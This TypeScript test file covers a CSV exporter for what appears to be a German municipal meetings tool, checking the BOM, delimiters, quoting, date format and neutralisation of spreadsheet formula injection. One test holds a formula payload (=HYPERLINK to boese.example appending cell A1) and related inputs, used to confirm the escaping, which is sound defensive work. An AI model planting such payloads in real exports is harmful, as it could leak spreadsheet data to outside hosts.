import assert from "node:assert/strict";
import type { PlainDate } from "../../src/domain/plainDate";
import { buildCsv, recipientsCsv } from "../../src/documents/csv";
import { recipientsOn } from "../../src/documents/recipients";
import { contact, exampleRegisters } from "../support/exampleRegisters";

const decode = (bytes: Uint8Array) => new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);

describe("buildCsv", () => {
  it("starts with the UTF-8 BOM and uses ; and CRLF", () => {
    const bytes = buildCsv(["Mitglied", "Ort"], [["Stadt Jüchen", "Markt 5"]]);
    assert.deepEqual([...bytes.slice(0, 3)], [0xef, 0xbb, 0xbf]);
    assert.equal(decode(bytes), "\uFEFFMitglied;Ort\r\nStadt Jüchen;Markt 5\r\n");
  });

  it("quotes fields with ; quotes, line breaks or surrounding spaces", () => {
    assert.equal(
      decode(buildCsv(["A", "B", "C", "D", "E"], [['Sagt "Hallo"', "a;b", "Zeile 1\nZeile 2", " x", null]])),
      '\uFEFFA;B;C;D;E\r\n"Sagt ""Hallo""";"a;b";"Zeile 1\nZeile 2";" x";\r\n',
    );
  });

  it("writes dates as TT.MM.JJJJ", () => {
    assert.equal(decode(buildCsv(["Datum"], [[{ date: "2027-01-04" as PlainDate }]])), "\uFEFFDatum\r\n04.01.2027\r\n");
  });

  it("neutralises cells Excel would run as formulas", () => {
    const rows = [['=HYPERLINK("http://boese.example/?"&A1;"Klick")'], ["+49 2131"], ["-1"], ["@SUM(A1)"], ["\tTab"], ["\r=1"], ["Normal = gut"]];
    const lines = decode(buildCsv(["Wert"], rows)).slice(1).split("\r\n");
    assert.deepEqual(lines, ["Wert", `"'=HYPERLINK(""http://boese.example/?""&A1;""Klick"")"`, "'+49 2131", "'-1", "'@SUM(A1)", "'\tTab", `"'\r=1"`, "Normal = gut", ""]);
  });
});

describe("recipientsCsv", () => {
  it("lists the recipients with salutation, address and the meeting", () => {
    const registers = exampleRegisters({ contacts: [contact("Stadt Kaarst", "=HYPERLINK(\"x\")", "Muster", { salutation: "Herr", email: "max@example.org" })] });
    const text = decode(recipientsCsv(recipientsOn(registers, "2027-01-14" as PlainDate), { nr: "2027-01", date: "2027-01-14" as PlainDate }));
    assert.equal(
      text,
      "\uFEFFMitglied;Anrede;Titel;Vorname;Nachname;Funktion;E-Mail;Rolle;Briefanrede;Anschrift;Sitzung;Datum\r\n" +
        `Stadt Kaarst;Herr;;"'=HYPERLINK(""x"")";Muster;Klimaschutzmanagerin;max@example.org;Ansprechperson;Sehr geehrter Herr Muster,;"Stadt Kaarst\nMarkt 1\n41000 Kaarst";2027-01;14.01.2027\r\n`,
    );
  });
});
